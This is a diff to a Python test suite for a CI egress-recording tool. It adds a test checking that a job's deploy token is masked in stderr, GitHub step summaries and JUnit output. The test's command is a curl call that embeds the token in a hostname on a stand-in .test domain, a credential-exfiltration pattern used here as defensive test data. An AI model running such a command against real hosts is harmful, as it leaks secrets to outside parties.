@@ -128,6 +128,19 @@ def services_show_it(stage):
     assert done.stderr.index("section_end:") > done.stderr.index("egress.lock: +"), done.stderr
 
 
+def services_see_no_credential(stage):
+    """A credential of the job that its command puts into a name is shown by nothing that a service keeps."""
+    stage.record(A)
+    summary, token = stage.write("summary.md", ""), "Tok3n-0f-the-Team"
+    script = f"curl -sS http://x-{token}-y.test/ >/dev/null; {A}; true"
+    secret = {"DEPLOY_TOKEN": f"short\n{token}", "NOT_AT_ALL_ONE": "denied-by"}
+    for service in ({"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary)}, {"GITLAB_CI": "true"}):
+        done = stage.check(script, options=["--junit", "junit.xml"], more={**service, **secret})
+        said = [done.stderr, summary.read_text(), (stage.here / "junit.xml").read_text()]
+        assert "x-***-y.test" in said[0] and "x-***-y.test" in said[2] and r"x\-\*\*\*\-y\.test" in said[1], said
+        assert not [text for text in said if token.lower() in text.lower()], said
+
+
 def a_file_for_services(stage):
     """--junit: what passed and what failed; the text of a command cannot end an attribute."""
     stage.record(A)
@@ -248,7 +261,7 @@ def observed_runs_are_recorded(stage):
     assert stage.lock.read_text() == lock_of(LINE_A)
 
 
-CASES = [what_a_run_reached_is_written, nothing_new_is_fine, what_is_new_fails, services_show_it, a_file_for_services, a_malformed_lock_runs_nothing,
+CASES = [what_a_run_reached_is_written, nothing_new_is_fine, what_is_new_fails, services_show_it, services_see_no_credential, a_file_for_services, a_malformed_lock_runs_nothing,
          hosts_are_a_labels, a_failed_run_is_not_recorded, a_command_cannot_change_the_result, an_ordinary_user_can_use_it,
          observed_runs_are_recorded]
 
